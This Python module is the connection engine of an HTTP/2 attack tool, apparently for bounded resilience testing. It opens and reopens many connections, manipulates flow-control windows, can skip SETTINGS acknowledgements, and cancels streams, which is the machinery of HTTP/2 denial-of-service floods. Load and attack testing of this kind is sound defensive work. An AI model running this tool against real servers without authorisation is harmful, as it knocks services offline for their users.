# SPDX-License-Identifier: Apache-2.0

"""Connections of an attack, and the loop that runs them within its bounds."""
import collections
import heapq
import itertools
import selectors
import ssl
import time

import http2

# The data that a connection keeps ready to send.
MAX_BACKLOG = 256 << 10
# The attacker connects again after this time, so that attempts are bounded.
RECONNECT_SECONDS = 0.05
TURN_SECONDS = 0.02
SWEEP_SECONDS = 0.1


class Connection:
    """One connection. It answers SETTINGS and PING and keeps the windows.

    `feed` is called while there is room to send. It returns bytes, or nothing.
    """

    def __init__(self, loop, sock, feed, settings, acknowledges):
        self.loop, self.sock, self.feed = loop, sock, feed
        self.acknowledges = acknowledges
        self.out, self.input = bytearray(), bytearray()
        self.next_stream = 1
        self.open = {}         # stream: whether a part of its answer has come
        self.windows = {}      # stream: bytes that may be sent
        self.window = http2.DEFAULT_WINDOW
        self.initial_window = http2.DEFAULT_WINDOW
        self.max_streams = None  # unknown until the server's SETTINGS
        self.store = None        # of the attack
        if settings is not None:
            self.out += http2.PREFACE + http2.settings_frame(settings)
            if http2.INITIAL_WINDOW_SIZE not in settings:
                self.out += http2.window_update(
                    0, http2.MAX_WINDOW - http2.DEFAULT_WINDOW)

    def start(self, block, data=b"", ends=True):
        """The frames of a new stream. Its message must fit in the windows."""
        stream = self.next_stream
        self.next_stream += 2
        self.open[stream] = False
        self.windows[stream] = self.initial_window
        self.loop.tally["streams"] += 1
        flags = http2.END_HEADERS | (http2.END_STREAM if ends and not data else 0)
        out = http2.frame(http2.HEADERS, flags, stream, block)
        self.loop.tally["frames"] += 1
        if data:
            out += self.data(stream, data, ends)
        return out

    def data(self, stream, data, ends=False):
        self.window -= len(data)
        self.windows[stream] -= len(data)
        self.loop.tally["frames"] += 1
        return http2.frame(http2.DATA, http2.END_STREAM if ends else 0, stream, data)

    def cancel(self, stream):
        self.open.pop(stream, None)
        self.windows.pop(stream, None)
        self.loop.tally["frames"] += 1
        return http2.reset(stream)

    def fill(self):
        while self.feed and self.max_streams is not None and len(self.out) < MAX_BACKLOG:
            more = self.feed(self)
            if not more:
                break
            self.out += more

    def write(self):
        self.fill()
        while self.out:
            try:
                sent = self.sock.send(memoryview(self.out)[:MAX_BACKLOG])
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            del self.out[:sent]
            self.loop.tally["bytes_sent"] += sent
            if not self.out:
                self.fill()
            if self.loop.is_over():
                break

    def read(self):
        """Raises ConnectionError at the end of the connection."""
        while True:
            try:
                more = self.sock.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            if not more:
                raise ConnectionError("closed")
            self.loop.tally["bytes_received"] += len(more)
            self.input += more
        while len(self.input) >= 9:
            size = int.from_bytes(self.input[:3], "big")
            if len(self.input) < 9 + size:
                break
            kind, flags = self.input[3], self.input[4]
            stream = int.from_bytes(self.input[5:9], "big")
            payload = bytes(self.input[9:9 + size])
            del self.input[:9 + size]
            self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        if kind == http2.SETTINGS and not flags & http2.ACK:
            self.take_settings(payload)
        elif kind == http2.PING and not flags & http2.ACK:
            self.out += http2.frame(http2.PING, http2.ACK, 0, payload)
        elif kind == http2.WINDOW_UPDATE:
            increment = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += increment
            elif stream in self.windows:
                self.windows[stream] += increment
        elif kind == http2.GOAWAY:
            self.loop.tally["GOAWAY " + http2.error_name(payload[4:])] += 1
        elif kind == http2.RST_STREAM:
            if self.open.pop(stream, None) is not None:
                self.loop.tally["RST_STREAM " + http2.error_name(payload)] += 1
            self.windows.pop(stream, None)
        elif kind in (http2.DATA, http2.HEADERS) and stream in self.open:
            if kind == http2.DATA:
                self.open[stream] = True
            if flags & http2.END_STREAM:
                self.loop.tally["answers" if self.open.pop(stream) else "refusals"] += 1
                self.windows.pop(stream, None)

    def take_settings(self, payload):
        if self.max_streams is None:
            self.max_streams = 1 << 31
        for at in range(0, len(payload), 6):
            key = int.from_bytes(payload[at:at + 2], "big")
            value = int.from_bytes(payload[at + 2:at + 6], "big")
            if key == http2.MAX_CONCURRENT_STREAMS:
                self.max_streams = value
            elif key == http2.INITIAL_WINDOW_SIZE:
                for stream in self.windows:
                    self.windows[stream] += value - self.initial_window
                self.initial_window = value
        if self.acknowledges:
            self.out += http2.frame(http2.SETTINGS, http2.ACK, 0)


class Loop:
    """Runs connections until the time or the bytes of the attack are used up."""

    def __init__(self, target, sources, token, seconds, max_bytes):
        self.target, self.token = target, token
        self.sources = itertools.cycle(sources)
        self.end = time.monotonic() + seconds
        self.max_bytes = max_bytes
        self.tally = collections.Counter()
        self.selector = selectors.DefaultSelector()
        self.now = 0.0     # of the last sweep
        self.pending = []  # heap of (time, number, arguments of add)
        self.numbers = itertools.count()

    def is_over(self):
        return time.monotonic() >= self.end or self.tally["bytes_sent"] >= self.max_bytes

    def authorization(self):
        return (("authorization", f"Bearer {self.token}"),) if self.token else ()

    def add(self, feed=None, count=2, settings=None, acknowledges=True, speaks=True,
            with_tls=True, leaves=False):
        """Opens `count` connections, and each again when it ends. With `speaks`
        false, only `feed` sends. With `leaves`, each ends at once."""
        options = dict(feed=feed, settings=(settings or {
            http2.INITIAL_WINDOW_SIZE: http2.MAX_WINDOW}) if speaks else None,
                       acknowledges=acknowledges, with_tls=with_tls, leaves=leaves)
        for _ in range(count):
            heapq.heappush(self.pending, (time.monotonic(), next(self.numbers), options))

    def connect(self, options):
        try:
            sock = self.target.connect(next(self.sources), options["with_tls"])
        except OSError as error:
            self.lose(None, options, error)
            return
        self.tally["connections"] += 1
        if options["leaves"]:
            sock.close()
            self.schedule(options)
            return
        connection = Connection(self, sock, options["feed"], options["settings"],
                                options["acknowledges"])
        if options["settings"] is None:
            connection.max_streams = 1 << 31
        self.selector.register(sock, selectors.EVENT_READ, (connection, options))
        self.turn(sock, connection, options)

    def lose(self, sock, options, error):
        """Notes the end of a connection, and schedules the next."""
        self.tally[f"ended: {type(error).__name__}"] += 1
        if sock is not None:
            self.selector.unregister(sock)
            sock.close()
        self.schedule(options)

    def schedule(self, options):
        heapq.heappush(self.pending, (time.monotonic() + RECONNECT_SECONDS,
                                      next(self.numbers), options))

    def turn(self, sock, connection, options):
        try:
            connection.read()
            connection.write()
        except OSError as error:
            self.lose(sock, options, error)
            return
        events = selectors.EVENT_READ | (selectors.EVENT_WRITE if connection.out else 0)
        if self.selector.get_key(sock).events != events:
            self.selector.modify(sock, events, (connection, options))

    def run(self):
        while not self.is_over():
            turn_end = time.monotonic() + TURN_SECONDS
            while self.pending and self.pending[0][0] <= time.monotonic() < turn_end:
                self.connect(heapq.heappop(self.pending)[2])
            for key, _ in self.selector.select(TURN_SECONDS):
                self.turn(key.fileobj, *key.data)
            if time.monotonic() - self.now > SWEEP_SECONDS:
                # A connection whose feed had nothing to send may have now.
                self.now = time.monotonic()
                for key in list(self.selector.get_map().values()):
                    if key.data[0].feed:
                        self.turn(key.fileobj, *key.data)
        self.tally["connections_held"] = len(self.selector.get_map())
        self.tally["streams_held"] = sum(len(key.data[0].open)
                                         for key in self.selector.get_map().values())
        for key in list(self.selector.get_map().values()):
            self.selector.unregister(key.fileobj)
            key.fileobj.close()
